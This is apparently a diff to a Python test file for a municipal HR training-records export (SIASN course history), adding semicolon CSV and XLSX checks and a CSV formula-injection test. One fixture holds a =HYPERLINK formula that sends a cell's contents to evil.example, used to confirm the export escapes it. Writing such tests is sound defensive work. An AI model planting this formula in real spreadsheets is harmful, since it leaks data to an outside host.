@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import datetime as dt
+import io
 from uuid import uuid4
+
+from openpyxl import load_workbook
 
 from lms.competencies.ledger import attach_certificate, revoke_session_credit
 from tests.factories import make_person
@@ -81,14 +84,31 @@ async def test_one_row_per_certified_approved_entry(client, hr, unit, other_unit
     csv = await client.get(EXPORT, params={"year": 2026}, headers=hr.headers)
     assert csv.headers["content-type"] == "text/csv; charset=utf-8"
     assert 'filename="riwayat-kursus-siasn-2026.csv"' in csv.headers["content-disposition"]
-    assert csv.text.splitlines() == [
-        "nip,jenisDiklatId,namaKursus,institusiPenyelenggara,jumlahJam,nomorSertipikat,"
-        "tahunKursus,tanggalKursus,tanggalSelesaiKursus",
-        "198805052012121002,9,Seminar ASN BerAKHLAK,DPMPTSP Kota Padang Panjang,8,"
-        "001/SEM/BKPSDM/V/2026,2026,06-05-2026,06-05-2026",
-        "199001012015032001,3,Pelatihan Pelayanan Prima Angkatan I,DPMPTSP Kota Padang Panjang,"
-        "20,012/PP/DPMPTSP/III/2026,2026,02-03-2026,04-03-2026",
+    # ";" and a BOM: Excel in an Indonesian locale opens it in columns.
+    assert csv.content.startswith(b"\xef\xbb\xbfnip;jenisDiklatId;")
+    assert csv.content.decode("utf-8-sig").split("\r\n") == [
+        "nip;jenisDiklatId;namaKursus;institusiPenyelenggara;jumlahJam;nomorSertipikat;"
+        "tahunKursus;tanggalKursus;tanggalSelesaiKursus",
+        "198805052012121002;9;Seminar ASN BerAKHLAK;DPMPTSP Kota Padang Panjang;8;"
+        "001/SEM/BKPSDM/V/2026;2026;06-05-2026;06-05-2026",
+        "199001012015032001;3;Pelatihan Pelayanan Prima Angkatan I;DPMPTSP Kota Padang Panjang;"
+        "20;012/PP/DPMPTSP/III/2026;2026;02-03-2026;04-03-2026",
+        "",
     ]
+
+    xlsx = await client.get(EXPORT, params={"year": 2026, "format": "xlsx"}, headers=hr.headers)
+    assert xlsx.status_code == 200
+    assert 'filename="riwayat-kursus-siasn-2026.xlsx"' in xlsx.headers["content-disposition"]
+    sheet = load_workbook(io.BytesIO(xlsx.content))["Riwayat kursus"]
+    values = list(sheet.values)
+    assert values[0][0] == "PEMERINTAH KOTA PADANG PANJANG"
+    assert values[1][0] == "Riwayat kursus untuk SIASN tahun 2026"
+    assert values[3][:3] == ("nip", "jenisDiklatId", "namaKursus")
+    assert values[4] == (
+        "198805052012121002", 9, "Seminar ASN BerAKHLAK", "DPMPTSP Kota Padang Panjang", 8,
+        "001/SEM/BKPSDM/V/2026", 2026, "06-05-2026", "06-05-2026",
+    )  # fmt: skip
+    assert sheet.freeze_panes == "A5" and sheet.auto_filter.ref == "A4:I6"
 
     only_unit = await client.get(
         EXPORT,
@@ -101,3 +121,18 @@ async def test_one_row_per_certified_approved_entry(client, hr, unit, other_unit
 async def test_export_is_hr_only(client, organizer, participant):
     for actor in (organizer, participant):
         assert (await client.get(EXPORT, headers=actor.headers)).status_code == 403
+
+
+async def test_csv_cells_that_start_a_formula_are_quoted(client, hr, unit):
+    person = await make_person(unit["id"], "Siti", nip="199001012015032001")
+    await certified(
+        person,
+        8,
+        "@001/PP/2026",
+        title='=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
+        end=dt.date(2026, 3, 4),
+    )
+    resp = await client.get(EXPORT, params={"year": 2026}, headers=hr.headers)
+    row = resp.content.decode("utf-8-sig").split("\r\n")[1]
+    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""Klik"")"' in row
+    assert ";'@001/PP/2026;" in row
